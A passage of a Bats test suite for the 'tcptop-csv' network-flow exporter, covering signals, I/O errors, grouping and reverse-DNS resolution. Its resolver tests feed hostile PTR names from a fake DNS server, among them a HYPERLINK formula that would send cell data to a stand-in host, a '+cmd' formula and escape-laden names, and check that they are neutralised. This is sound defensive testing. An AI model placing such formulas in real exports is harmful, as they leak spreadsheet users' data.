		cmp "$BATS_TEST_TMPDIR/want.csv" "$BATS_TEST_TMPDIR/out.csv"
	done
}

# A raw stream of 14 seconds: two connections, samples and ticks every second.
raw_script() {
	echo "header kind=raw interval=1"
	echo 'open t=0.1 flow=1 proto=tcp src=10.0.0.1:5000 dst=10.0.0.2:443 pid=100 comm=curl'
	echo 'open t=0.2 flow=2 proto=udp src=10.0.0.1:6000 dst=8.8.8.8:53 pid=101 comm="d,ig"'
	for t in $(seq 1 12); do
		echo "sample t=$t.5 flow=1 in=$((t * 1000)) out=$((t * 10)) pin=$t pout=$t rtt=300"
		echo "sample t=$t.5 flow=2 in=$((t * 64)) out=$((t * 32)) pin=$t pout=$t"
		echo "tick t=$((t + 1))"
	done
	echo "close t=13.5 flow=1 in=13000 out=130"
	echo "tick t=14"
	echo "end t=14"
}

@test "Ctrl-C to tcptop-agg | tcptop-csv mid-stream: both finish the stream, exit 0, the same CSV" {
	raw_script | "$GEN" >"$BATS_TEST_TMPDIR/raw.tcpt"
	tcptop-agg "$BATS_TEST_TMPDIR/raw.tcpt" | tcptop-csv >"$BATS_TEST_TMPDIR/want.csv"
	[ "$(wc -l <"$BATS_TEST_TMPDIR/want.csv")" -ge 20 ]
	# the records up to tick t=6 (dump line 18), then SIGINT to both, then the rest
	off=$(tcptop-dump -O "$BATS_TEST_TMPDIR/raw.tcpt" | sed -n '19s/^@\([0-9]*\) .*/\1/p')
	mkfifo "$BATS_TEST_TMPDIR/raw" "$BATS_TEST_TMPDIR/snap"
	tcptop-agg <"$BATS_TEST_TMPDIR/raw" >"$BATS_TEST_TMPDIR/snap" 3>&- &
	agg=$!
	tcptop-csv -o "$BATS_TEST_TMPDIR/got.csv" <"$BATS_TEST_TMPDIR/snap" 3>&- &
	csv=$!
	exec 5>"$BATS_TEST_TMPDIR/raw"
	head -c "$off" "$BATS_TEST_TMPDIR/raw.tcpt" >&5
	for _ in $(seq 100); do
		[ "$(wc -l <"$BATS_TEST_TMPDIR/got.csv" 2>/dev/null || echo 0)" -ge 5 ] && break
		sleep 0.1
	done
	[ "$(wc -l <"$BATS_TEST_TMPDIR/got.csv")" -lt "$(wc -l <"$BATS_TEST_TMPDIR/want.csv")" ]
	kill -INT "$agg" "$csv"
	tail -c +$((off + 1)) "$BATS_TEST_TMPDIR/raw.tcpt" >&5
	exec 5>&-
	st=0
	wait "$agg" || st=$?
	[ "$st" -eq 0 ] || fail "tcptop-agg exited $st"
	wait "$csv" || st=$?
	[ "$st" -eq 0 ] || fail "tcptop-csv exited $st"
	cmp "$BATS_TEST_TMPDIR/want.csv" "$BATS_TEST_TMPDIR/got.csv"
}

# feed_then_stall STREAM BYTES CSV-ARGS...: tcptop-csv reads a FIFO that gets the first BYTES of
# STREAM, then nothing (fd 5 stays open); $pid is tcptop-csv.
feed_then_stall() {
	local stream=$1 bytes=$2
	shift 2
	rm -f "$BATS_TEST_TMPDIR/in"
	mkfifo "$BATS_TEST_TMPDIR/in"
	tcptop-csv "$@" "$BATS_TEST_TMPDIR/in" 2>"$BATS_TEST_TMPDIR/err" 3>&- &
	pid=$!
	exec 5>"$BATS_TEST_TMPDIR/in"
	head -c "$bytes" "$stream" >&5
}

@test "a stalled input cannot hold csv: SIGINT or SIGTERM ends it within 1 s, a snapshot cut short left out" {
	"$GEN" --bulk-snap 50,20 >"$BATS_TEST_TMPDIR/s.tcpt"
	# snapshots 1 and 2 (records 1 to 105), and snapshot 3 up to the middle of its 10th row
	off=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '117s/^@\([0-9]*\) .*/\1/p')
	for sig in INT TERM; do
		feed_then_stall "$BATS_TEST_TMPDIR/s.tcpt" $((off + 30)) -o "$BATS_TEST_TMPDIR/out.csv"
		for _ in $(seq 100); do
			[ "$(wc -l <"$BATS_TEST_TMPDIR/out.csv")" -ge 101 ] && break
			sleep 0.05
		done
		started "$pid"
		signal_and_wait "$pid" "$sig"
		exec 5>&-
		[ "$ms" -lt 1000 ] || fail "SIG$sig: stopped after $ms ms"
		[ "$st" -eq $((128 + $(kill -l "$sig"))) ] || fail "SIG$sig: exit $st"
		run -0 cut -d, -f 24 "$BATS_TEST_TMPDIR/out.csv"
		assert_output "$(echo snapshot_seq; for _ in $(seq 50); do echo 1; done; for _ in $(seq 50); do echo 2; done)"
		"$CSVCHECK" --min-fields 16 "$BATS_TEST_TMPDIR/out.csv" >/dev/null
	done
	# standard input a silent pipe; a FIFO no writer ever opened
	rm -f "$BATS_TEST_TMPDIR/in"
	mkfifo "$BATS_TEST_TMPDIR/in"
	silent_writer "$BATS_TEST_TMPDIR/in"
	tcptop-csv <"$BATS_TEST_TMPDIR/in" >"$BATS_TEST_TMPDIR/out.csv" 3>&- &
	pid=$!
	started "$pid"
	signal_and_wait "$pid" INT
	kill "$writer"
	[ "$ms" -lt 1000 ] || fail "silent pipe: stopped after $ms ms"
	assert_equal "$st" 130
	rm -f "$BATS_TEST_TMPDIR/in"
	mkfifo "$BATS_TEST_TMPDIR/in"
	tcptop-csv "$BATS_TEST_TMPDIR/in" >"$BATS_TEST_TMPDIR/out.csv" 3>&- &
	pid=$!
	started "$pid"
	signal_and_wait "$pid" TERM
	[ "$ms" -lt 1000 ] || fail "FIFO without writer: stopped after $ms ms"
	assert_equal "$st" 143
}

@test "stopped inside a snapshot larger than the write buffer: the rows already written are cut from the file" {
	"$GEN" --bulk-snap 5000,3 >"$BATS_TEST_TMPDIR/s.tcpt"
	# snapshot 1, then 4000 rows of snapshot 2: more than the 256 KiB buffer, written out
	off=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '5004p' | sed 's/^@\([0-9]*\) .*/\1/')
	off2=$(tcptop-dump -O "$BATS_TEST_TMPDIR/s.tcpt" | sed -n '9004p' | sed 's/^@\([0-9]*\) .*/\1/')
	feed_then_stall "$BATS_TEST_TMPDIR/s.tcpt" "$off2" -o "$BATS_TEST_TMPDIR/out.csv"
	for _ in $(seq 100); do
		[ "$(wc -l <"$BATS_TEST_TMPDIR/out.csv")" -gt 5001 ] && break
		sleep 0.05
	done
	[ "$(wc -l <"$BATS_TEST_TMPDIR/out.csv")" -gt 5001 ] || fail "snapshot 2 not written in part"
	started "$pid"
	signal_and_wait "$pid" INT
	exec 5>&-
	assert_equal "$st" 130
	[ "$(wc -l <"$BATS_TEST_TMPDIR/out.csv")" -eq 5001 ] || fail "$(wc -l <"$BATS_TEST_TMPDIR/out.csv") lines"
	head -c "$off" "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/one.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/one.tcpt" >"$BATS_TEST_TMPDIR/want.csv" 2>/dev/null
	cmp "$BATS_TEST_TMPDIR/want.csv" "$BATS_TEST_TMPDIR/out.csv"
}

@test "a signal before any input came, then the pipe ends empty: no 'empty input' error, 0 (nothing left unread)" {
	# Ctrl-C a few ms into tcptop --replay --log: tcptop-agg stopped before it wrote anything
	mkfifo "$BATS_TEST_TMPDIR/in"
	tcptop-csv -o "$BATS_TEST_TMPDIR/out.csv" "$BATS_TEST_TMPDIR/in" 2>"$BATS_TEST_TMPDIR/err" 3>&- &
	pid=$!
	exec 5>"$BATS_TEST_TMPDIR/in"
	started "$pid"
	kill -INT "$pid"
	sleep 0.1
	exec 5>&- # the end, with nothing written
	st=0
	wait "$pid" || st=$?
	# the stop rule (tcptop(1) EXIT STATUS, Stops): the input was read to its end
	assert_equal "$st" 0
	run -0 cat "$BATS_TEST_TMPDIR/err"
	assert_output ''
	# without a signal, empty input stays an error
	run -65 tcptop-csv </dev/null
	assert_output --partial 'empty input'
}

@test "a signal just before csv waits for input is not lost (30 signals at random moments)" {
	mkfifo "$BATS_TEST_TMPDIR/in"
	silent_writer "$BATS_TEST_TMPDIR/in"
	for i in $(seq 30); do
		tcptop-csv <"$BATS_TEST_TMPDIR/in" >/dev/null 3>&- &
		pid=$!
		sleep "0.00$((RANDOM % 8))"
		signal_and_wait "$pid" TERM
		# lost, it would wait for ever (the watchdog's 5 s); the 1 s bound is the stall
		# test's, with the tool already waiting: here start-up on a loaded machine counts too
		[ "$ms" -lt 3000 ] || fail "signal $i: stopped after $ms ms"
		[ "$st" -eq 143 ] || fail "signal $i: exit $st"
	done
	kill "$writer"
}

@test "SIGTERM while reading a file: the current snapshot finished, exit 143" {
	"$GEN" --bulk-snap 1000,100 >"$BATS_TEST_TMPDIR/s.tcpt"
	mkfifo "$BATS_TEST_TMPDIR/out"
	# the output is a pipe nobody reads yet: tcptop-csv blocks in write(2) mid-file
	tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/out" 3>&- &
	pid=$!
	exec 6<"$BATS_TEST_TMPDIR/out"
	for _ in $(seq 100); do
		grep -q pipe_write "/proc/$pid/wchan" 2>/dev/null && break
		sleep 0.1
	done
	kill -TERM "$pid"
	cat <&6 >"$BATS_TEST_TMPDIR/got.csv"
	exec 6<&-
	status=0
	wait "$pid" || status=$?
	[ "$status" -eq 143 ] || fail "exit $status"
	lines=$(($(wc -l <"$BATS_TEST_TMPDIR/got.csv") - 1))
	[ "$lines" -gt 0 ] && [ "$lines" -lt 100000 ] || fail "$lines rows"
	[ $((lines % 1000)) -eq 0 ] || fail "$lines rows: not whole snapshots of 1000"
	"$CSVCHECK" --min-fields 16 "$BATS_TEST_TMPDIR/got.csv" >/dev/null
}

@test "a reader that goes away (| head): quiet, exit 0" {
	"$GEN" --bulk-snap 1000,50 >"$BATS_TEST_TMPDIR/s.tcpt"
	run -0 bash -c 'tcptop-csv "$1" 2>"$2" | head -n 2 >/dev/null; echo "${PIPESTATUS[0]}"' _ \
		"$BATS_TEST_TMPDIR/s.tcpt" "$BATS_TEST_TMPDIR/err"
	assert_output 0
	[ ! -s "$BATS_TEST_TMPDIR/err" ]
}

@test "I/O errors: 74 (an unreadable input, a full disk)" {
	run -74 tcptop-csv "$BATS_TEST_TMPDIR"
	assert_output --partial "read error at byte 0"
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	run -74 tcptop-csv -o /dev/full "$BATS_TEST_TMPDIR/s.tcpt"
	assert_output --partial "No space left on device"
}

@test "many rows in one snapshot: every row complete, the numbers of the bulk generator" {
	"$GEN" --bulk-snap 20000,3 >"$BATS_TEST_TMPDIR/b.tcpt"
	tcptop-csv "$BATS_TEST_TMPDIR/b.tcpt" >"$BATS_TEST_TMPDIR/b.csv"
	run -0 "$CSVCHECK" --min-fields 16 "$BATS_TEST_TMPDIR/b.csv"
	run -0 python3 - "$BATS_TEST_TMPDIR/b.csv" <<'PY'
import csv, sys
n = 0
for r in csv.DictReader(open(sys.argv[1], newline="")):
    s, i = int(r["snapshot_seq"]) - 1, n % 20000
    assert r["bytes_in"] == str((s + 1) * 1000 + i), r
    assert r["process_name"] == "proc%d" % (i % 500), r
    assert r["local_port"] == str(1024 + i % 60000), r
    assert r["remote_addr"] == "10.0.%d.%d" % ((i >> 8) & 255, i & 255), r
    assert r["rate_in_bytes_sec"] == "%.2f" % (1000.0 + (i % 97) / 4), r
    assert r["rtt_us"] == str(100 + i % 1000), r
    n += 1
assert n == 60000, n
PY
}

@test "out of memory at start: 71 with a message, never a crash, whatever the limit" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	# below some limit the dynamic loader fails (127), above another everything fits (0);
	# the shell's own failures are left out (common.bash)
	run -0 oom_statuses tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt"
	assert_output --partial "71 "
	[[ "$output" =~ ^((0|71|127)\ )+$ ]] || fail "statuses under memory limits: $output"
}

# A snapshot stream with cgroups, a failed connect and a collector that left features out:
# udp-peers, and words no collector ever wrote (rtt retrans packets) or a newer one may.
features_script() {
	cat <<'S'
header kind=snapshot missing="udp-peers rtt retrans packets quic"
cgroup id=11 path="/system.slice/nginx.service"
cgroup id=12 path="/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope"
snap seq=1
row flow=1 src=10.0.0.1:443 dst=10.0.0.9:5000 pid=100 comm="nginx" in=10 out=1 pin=3 pout=4 rtt=900 retrans=2 rate_in=10 cgroup=11
row flow=2 src=10.0.0.1:443 dst=10.0.0.9:5001 pid=100 comm="nginx" in=20 out=2 rate_in=20 cgroup=11
row flow=3 src=10.0.0.1:40000 dst=10.0.0.8:80 pid=200 comm="curl" state=SYN_SENT closed new failed cgroup=12
row flow=4 proto=udp src=10.0.0.1:40001 dst=10.0.0.8:53 pid=300 comm="dig" in=40 cgroup=99
row flow=5 src=10.0.0.1:22 dst=10.0.0.7:6000 noowner in=80
snapend
end
S
}

@test "failed connects, cgroups and the collector's missing features: appended columns, empty cells" {
	features_script | "$GEN" >"$BATS_TEST_TMPDIR/f.tcpt"
	run -0 python3 - <(tcptop-csv "$BATS_TEST_TMPDIR/f.tcpt") <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert len(rows) == 5, len(rows)
a, b, c, d, e = rows
# udp-peers leaves no cell unknown; rtt, retrans, packets and quic are no words of the
# contract (lib/contract.h): the cells keep their values
assert (a["rtt_us"], a["retransmits"], a["packets_in"], a["packets_out"]) == ("900", "2", "3", "4"), a
assert (a["cgroup"], a["cgroup_path"]) == ("nginx.service", "/system.slice/nginx.service"), a
assert c["cgroup"] == "0123456789ab" and c["cgroup_path"].endswith(".scope"), c
assert (c["state"], c["closed"], c["failed"]) == ("SYN_SENT", "1", "1"), c
assert a["failed"] == "0" and d["failed"] == "", (a, d)
assert (d["cgroup"], d["cgroup_path"]) == ("#99", ""), d
assert (e["cgroup"], e["pid"], e["process_name"]) == ("", "", ""), e
assert all(r["connections"] == "1" for r in rows)
print("ok")
PY
	assert_output ok
	# missing cgroup: the cgroup cells are unknown, empty on every row, never a stale path
	features_script | sed 's/^header .*/header kind=snapshot missing="cgroup owners"/' |
		"$GEN" >"$BATS_TEST_TMPDIR/c.tcpt"
	run -0 python3 -c '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
print(sorted({(r["cgroup"], r["cgroup_path"]) for r in rows}), rows[0]["rtt_us"])' \
		<(tcptop-csv "$BATS_TEST_TMPDIR/c.tcpt")
	assert_output "[('', '')] 900"
}

@test "the loss columns are lib/stream.h's loss codes: the collector's and agg's new ones appended after host" {
	cat <<'S' | "$GEN" >"$BATS_TEST_TMPDIR/l.tcpt"
header kind=snapshot
snap seq=1 ringbuf=1 flow_table_full=2 flow_evicted=3 agg_table_full=4 agg_unknown_flow=5 agg_gap=6 kprobe_missed=7 walk_failed=8 owners_full=9 udp_peers_evicted=10 agg_names_full=11 agg_loss_other=12
row flow=1 src=10.0.0.1:443 dst=10.0.0.9:5000 pid=100 comm="nginx" in=10 out=1
snapend
end
S
	run -0 python3 -c '
import csv, sys
r = next(csv.DictReader(open(sys.argv[1], newline="")))
print(" ".join("%s=%s" % (k[5:], v) for k, v in r.items() if k.startswith("loss_")))' \
		<(tcptop-csv "$BATS_TEST_TMPDIR/l.tcpt")
	assert_output "ringbuf=1 flow_table_full=2 flow_evicted=3 agg_table_full=4 agg_unknown_flow=5 agg_gap=6 kprobe_missed=7 walk_failed=8 owners_full=9 udp_peers_evicted=10 agg_names_full=11 agg_loss_other=12"
	run -0 tcptop-csv -f jsonl "$BATS_TEST_TMPDIR/l.tcpt"
	assert_output --partial '"host":"testhost","loss_kprobe_missed":7,"loss_walk_failed":8,"loss_owners_full":9,"loss_udp_peers_evicted":10,"loss_agg_names_full":11,"loss_agg_loss_other":12,"limit":null,"limit_pct":null}'
	# each is documented in tcptop-csv(1) and named in --help
	run -0 tcptop-csv --help
	local c
	for c in loss_udp_peers_evicted loss_agg_names_full loss_agg_loss_other; do
		assert_output --partial "$c"
		MANWIDTH=200 mandoc -Tascii "$TCPTOP_SRC/man/tcptop-csv.1" | col -bx |
			grep -q "$c" || fail "tcptop-csv(1) lacks $c"
	done
}

@test "--group process and --group cgroup: one row per group with sums and counts" {
	features_script | "$GEN" >"$BATS_TEST_TMPDIR/f.tcpt"
	run -0 tcptop-csv --group process "$BATS_TEST_TMPDIR/f.tcpt"
	assert_line --index 1 --regexp '^[^,]*,,,,,,100,nginx,,30,3,3,4,30.00,0.00,,,'
	assert_line --index 1 --regexp ',,,,2,testhost,0,0,0,0,0,0,,$'
	assert_line --index 4 --regexp '^[^,]*,,,,,,,,,80,0,'
	[ "${#lines[@]}" -eq 5 ]
	run -0 tcptop-csv -g cgroup -f jsonl "$BATS_TEST_TMPDIR/f.tcpt"
	[ "${#lines[@]}" -eq 4 ]
	assert_line --index 0 --partial '"pid":null,"process_name":null,"state":null,"bytes_in":30,'
	assert_line --index 0 --partial '"cgroup":"nginx.service","cgroup_path":"/system.slice/nginx.service","connections":2,"host":"testhost",'
	assert_line --index 1 --partial '"cgroup":"0123456789ab",'
	assert_line --index 3 --partial '"bytes_in":80,'
	assert_line --index 3 --partial '"cgroup":null,"cgroup_path":null,"connections":1,"host":"testhost",'
	run -64 tcptop-csv --group host "$BATS_TEST_TMPDIR/f.tcpt"
	assert_output --partial 'invalid (process or cgroup)'
}

# ---- --resolve: host names from tests/dns/dns-server.py on loopback ----

# basic_script with a third snapshot whose remote address no server knows.
resolve_script() {
	basic_script | sed '$d'
	cat <<'S'
snap seq=3 time=1700000003.25
row flow=4 proto=tcp src=10.0.0.1:40001 dst=10.9.9.9:443 pid=100 comm=curl state=SYN_SENT
snapend
end t=3.25
S
}

@test "--resolve: remote_host appended after host, names from the DNS server, an unknown address empty" {
	resolve_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	start_dns 93.184.216.34=example.com 2001:db8::2=six.example
	run -0 tcptop-csv --resolve --dns-server "127.0.0.1:$DNS_PORT" "$BATS_TEST_TMPDIR/s.tcpt"
	plain=$(tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt" | head -n 1)
	assert_line --index 0 "$plain,remote_host"
	MANWIDTH=200 mandoc -Tascii "$TCPTOP_SRC/man/tcptop-csv.1" | col -bx |
		grep -qE '^ +remote_host$' || fail "remote_host is not in tcptop-csv(1)"
	[ "${#lines[@]}" -eq 6 ]
	# the first snapshot already has them: its rows waited for the answers
	assert_line --index 1 --regexp '^2023-11-14T22:13:21.250Z,tcp,10.0.0.1,40000,93.184.216.34,443,.*,testhost,0,0,0,0,0,0,,,example.com$'
	assert_line --index 2 --regexp ',2001:db8::2,5353,.*,testhost,0,0,0,0,0,0,,,six.example$'
	# ::ffff:127.0.0.1 is asked as 127.0.0.1, which the server does not know; 10.9.9.9 neither
	assert_line --index 3 --regexp ',127.0.0.1,50000,.*,testhost,0,0,0,0,0,0,,,$'
	assert_line --index 4 --regexp ',93.184.216.34,443,.*,testhost,0,0,0,0,0,0,,,example.com$'
	assert_line --index 5 --regexp ',10.9.9.9,443,.*,testhost,0,0,0,0,0,0,,,$'
	# one question per address, in-addr.arpa for the mapped one
	run -0 sort "$BATS_TEST_TMPDIR/dns.port.log"
	assert_output "1.0.0.127.in-addr.arpa
2.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa
34.216.184.93.in-addr.arpa
9.9.9.10.in-addr.arpa"
	# JSON Lines: the same names, null where none
	run -0 tcptop-csv -f jsonl --resolve --dns-server "127.0.0.1:$DNS_PORT" \
		"$BATS_TEST_TMPDIR/s.tcpt"
	assert_line --index 0 --partial '"host":"testhost","loss_kprobe_missed":0,"loss_walk_failed":0,"loss_owners_full":0,"loss_udp_peers_evicted":0,"loss_agg_names_full":0,"loss_agg_loss_other":0,"limit":null,"limit_pct":null,"remote_host":"example.com"}'
	assert_line --index 1 --partial '"remote_host":"six.example"}'
	assert_line --index 2 --partial '"remote_host":null}'
	assert_line --index 4 --partial '"remote_host":null}'
}

@test "--resolve: a hostile host name comes out sanitised and quoted, never a live formula, and it parses" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	# a label with a control byte, a comma, a quote, invalid UTF-8, ESC and a bidi override,
	# starting with a formula character
	start_dns $'93.184.216.34=-ev\x01il,"q\xff\x1b[31m\xe2\x80\xae.example' 2001:db8::2='a b.example'
	want='-ev\x01il,"q\xFF\x1B[31m\u{202E}.example'
	tcptop-csv --resolve --dns-server "127.0.0.1:$DNS_PORT" "$BATS_TEST_TMPDIR/s.tcpt" \
		>"$BATS_TEST_TMPDIR/h.csv"
	both_parsers "$BATS_TEST_TMPDIR/h.csv"
	run -0 python3 -c '
import sys
data = open(sys.argv[1], "rb").read()
data.decode("utf-8", errors="strict")
bad = [b for b in data if (b < 0x20 and b != 0x0A) or b == 0x7F]
assert not bad, bad' "$BATS_TEST_TMPDIR/h.csv"
	run -0 awk -F '\t' '{ print $NF }' "$BATS_TEST_TMPDIR/h.csv.py"
	assert_line --index 0 remote_host
	# a PTR name is the peer's choice: the leading - gets its apostrophe without --excel-safe
	assert_line --index 1 "'$want"
	assert_line --index 2 "a b.example"
	run -0 cat "$BATS_TEST_TMPDIR/h.csv"
	assert_line --index 1 --partial ",testhost,0,0,0,0,0,0,,,\"'-ev\\x01il,\"\"q\\xFF\\x1B[31m\\u{202E}.example\""
	assert_line --index 2 --partial ',testhost,0,0,0,0,0,0,,,"a b.example"'
	# --excel-safe: the same
	tcptop-csv --excel-safe --resolve --dns-server "127.0.0.1:$DNS_PORT" \
		"$BATS_TEST_TMPDIR/s.tcpt" >"$BATS_TEST_TMPDIR/x.csv"
	both_parsers "$BATS_TEST_TMPDIR/x.csv"
	run -0 awk -F '\t' 'NR == 2 { print $NF }' "$BATS_TEST_TMPDIR/x.csv.py"
	assert_output "'$want"
	# JSON Lines: a JSON string holding the same text
	run -0 python3 -c '
import json, sys
for line in sys.stdin:
    print(json.loads(line)["remote_host"])' \
		< <(tcptop-csv -f jsonl --resolve --dns-server "127.0.0.1:$DNS_PORT" \
			"$BATS_TEST_TMPDIR/s.tcpt")
	assert_line --index 0 "$want"
}

@test "--resolve: PTR names that a spreadsheet would run (= + - @) are text, with or without --excel-safe" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	start_dns '93.184.216.34==HYPERLINK("http://x.example/?"&A1,"ok")' 2001:db8::2=+1+cmd
	for opts in "" --excel-safe; do
		tcptop-csv $opts --resolve --dns-server "127.0.0.1:$DNS_PORT" "$BATS_TEST_TMPDIR/s.tcpt" \
			>"$BATS_TEST_TMPDIR/f.csv"
		run -0 python3 -c '
import csv, sys
for r in csv.DictReader(open(sys.argv[1], newline="")):
    if r["remote_host"]:
        print(r["remote_host"])' "$BATS_TEST_TMPDIR/f.csv"
		assert_line --index 0 "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"
		assert_line --index 1 "'+1+cmd"
	done
	# the other text cells keep their default: a process named -bash stays -bash
	run -0 tcptop-csv --resolve --dns-server "127.0.0.1:$DNS_PORT" "$BATS_TEST_TMPDIR/s.tcpt"
	refute_output --partial "'curl"
}

# csv_pid PARENT: the pid of tcptop-csv started by PARENT (a bash -c pipeline), once it runs.
csv_pid() {
	local p
	for _ in $(seq 200); do
		p=$(pgrep -P "$1" -x tcptop-csv) && [ -n "$p" ] && { echo "$p"; return 0; }
		sleep 0.05
	done
	return 1
}

# sockets PID: how many sockets the process holds open.
sockets() {
	local n=0 fd
	for fd in /proc/"$1"/fd/*; do
		[[ $(readlink "$fd") == socket:* ]] && n=$((n + 1))
	done
	echo "$n"
}

@test "without --resolve: no remote_host column, no socket, no DNS query; --dns-server alone or with --group: 64" {
	basic_script | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	start_dns 93.184.216.34=example.com
	run -0 tcptop-csv "$BATS_TEST_TMPDIR/s.tcpt"
	refute_output --partial remote_host
	refute_output --partial example.com
	run -0 tcptop-csv -f jsonl "$BATS_TEST_TMPDIR/s.tcpt"
	refute_output --partial remote_host
	# the stream read, csv waits for the end of its input: it holds no socket (the resolver's
	# would be one); with --resolve it does, which shows the check can see it
	local opts pid
	for opts in "" "--resolve --dns-server 127.0.0.1:$DNS_PORT"; do
		: >"$BATS_TEST_TMPDIR/out.csv"
		bg_start bash -c '{ cat "$1"; sleep 30; } | tcptop-csv $2 >"$3"' bash \
			"$BATS_TEST_TMPDIR/s.tcpt" "$opts" "$BATS_TEST_TMPDIR/out.csv"
		pid=$(csv_pid "$BG_PID") || fail "no tcptop-csv running"
		for _ in $(seq 200); do
			[ "$(wc -l <"$BATS_TEST_TMPDIR/out.csv")" -ge 5 ] && break
			sleep 0.05
		done
		[ "$(wc -l <"$BATS_TEST_TMPDIR/out.csv")" -ge 5 ] || fail "no rows from tcptop-csv $opts"
		if [ -z "$opts" ]; then
			[ "$(sockets "$pid")" -eq 0 ] || fail "tcptop-csv without --resolve holds a socket"
		else
			[ "$(sockets "$pid")" -eq 1 ] || fail "the resolver's socket is not seen"
		fi
		kill $(bg_tree "$BG_PID")
	done
	# only the --resolve run asked
	[ "$(grep -c . "$BATS_TEST_TMPDIR/dns.port.log")" -eq 3 ]
	run -64 tcptop-csv --dns-server "127.0.0.1:$DNS_PORT" "$BATS_TEST_TMPDIR/s.tcpt"
	assert_output --partial "--dns-server applies to --resolve only"
	run -64 tcptop-csv --resolve --group process "$BATS_TEST_TMPDIR/s.tcpt"
	assert_output --partial "a --group row has none"
	run -64 tcptop-csv --resolve --dns-server dns.example "$BATS_TEST_TMPDIR/s.tcpt"
	assert_output --partial "--dns-server dns.example: not ADDR or ADDR:PORT"
}

@test "--resolve with a server that never answers: every row, names empty, a bounded wait per snapshot" {
	# 30 snapshots, the first 3 with an address of their own, the others repeating the first
	{
		echo "header kind=snapshot real=1700000000 interval=1"
		for s in $(seq 30); do
			echo "snap seq=$s time=$((1700000000 + s))"
			echo "row flow=1 proto=tcp src=10.0.0.1:40000 dst=10.0.9.$((s <= 3 ? s : 1)):443 pid=100 comm=curl state=ESTABLISHED"
			echo "snapend"
		done
		echo "end"
	} | "$GEN" >"$BATS_TEST_TMPDIR/s.tcpt"
	start_dns --silent
	local t0 t1
	t0=$(date +%s%N)
	run -0 timeout 20 tcptop-csv --resolve --dns-server "127.0.0.1:$DNS_PORT" \
		"$BATS_TEST_TMPDIR/s.tcpt"
	t1=$(date +%s%N)
	[ "${#lines[@]}" -eq 31 ]
	for i in $(seq 30); do
		[[ "${lines[$i]}" == *,testhost,0,0,0,0,0,0,,, ]] || fail "row $i: ${lines[$i]}"
	done
	# the questions went out, unanswered
	[ "$(sort -u "$BATS_TEST_TMPDIR/dns.port.log" | wc -l)" -eq 3 ]
	# 0.2 s for each of the 3 snapshots that bring an address, none for the 27 that only
	# repeat one still being asked (waiting for those until they fail would take 4 s)
	[ $(((t1 - t0) / 1000000)) -lt 3000 ] || fail "took $(((t1 - t0) / 1000000)) ms"
}

@test "--resolve leaves out its own queries by who sent them: this pid, netns and host; the same ports from anyone else shown" {
	start_dns
	local netns boot
	netns=$(stat -L -c %i /proc/self/ns/net)
	boot=$(cat /proc/sys/kernel/random/boot_id)
	# the stream is written once csv's resolver socket (LPORT) and pid (PID) are known: its own
	# query, then the same flow from another process, another namespace, another host (boot
	# id), from a port its socket never had, and another process's to the server
	cat >"$BATS_TEST_TMPDIR/script" <<S
header kind=snapshot real=1700000000 interval=1 boot=BOOT
snap seq=1 time=1700000001
row flow=1 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:SPORT pid=PID comm=tcptop-csv in=40 out=40 netns=$netns
row flow=2 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:SPORT pid=2 comm=other in=1 out=1 netns=$netns
row flow=3 proto=udp src=127.0.0.1:LPORT dst=127.0.0.1:SPORT pid=PID comm=tcptop-csv in=2 out=2 netns=4026530000
row flow=4 proto=udp src=127.0.0.1:40000 dst=127.0.0.1:SPORT pid=PID comm=tcptop-csv in=3 out=3 netns=$netns
row flow=5 proto=udp src=127.0.0.1:40001 dst=127.0.0.1:SPORT pid=3 comm=dig in=4 out=4 netns=$netns
snapend
end
S
	sed "s/BOOT/00000000-0000-0000-0000-000000000000/" "$BATS_TEST_TMPDIR/script" \
		>"$BATS_TEST_TMPDIR/script.other"
	bg_start bash -c '
		for _ in $(seq 200); do [ -s "$1/lport" ] && break; sleep 0.05; done
		read -r pid lport <"$1/lport"
		sed -e "s/LPORT/$lport/" -e "s/SPORT/$3/" -e "s/PID/$pid/" -e "s/BOOT/$4/" \
			"$1/script" | "$2"
		sed -e "s/LPORT/$lport/" -e "s/SPORT/$3/" -e "s/PID/$pid/" "$1/script.other" |
			"$2"' bash "$BATS_TEST_TMPDIR" "$GEN" "$DNS_PORT" "$boot" |
		tcptop-csv --resolve --dns-server "127.0.0.1:$DNS_PORT" \
			>"$BATS_TEST_TMPDIR/out.csv" 3>&- &
	local csv=$!
	bg_track "$csv"
	local lport=
	for _ in $(seq 200); do
		lport=$(ss -Huanp 2>/dev/null | awk -v pid="pid=$csv," 'index($0, pid) { n = split($4, a, ":"); print a[n] }')
		[ -n "$lport" ] && break
		sleep 0.05
	done
	[ -n "$lport" ] || fail "no socket of tcptop-csv (pid $csv) in ss"
	echo "$csv $lport" >"$BATS_TEST_TMPDIR/lport"
	wait "$csv"
	# the first section: all but flow 1; the second (another host): all five
	run -0 cut -d, -f 4,6,7,8,20 "$BATS_TEST_TMPDIR/out.csv"
	assert_output "local_port,remote_port,pid,process_name,netns
$lport,$DNS_PORT,2,other,$netns
$lport,$DNS_PORT,$csv,tcptop-csv,4026530000
40000,$DNS_PORT,$csv,tcptop-csv,$netns
40001,$DNS_PORT,3,dig,$netns
$lport,$DNS_PORT,$csv,tcptop-csv,$netns
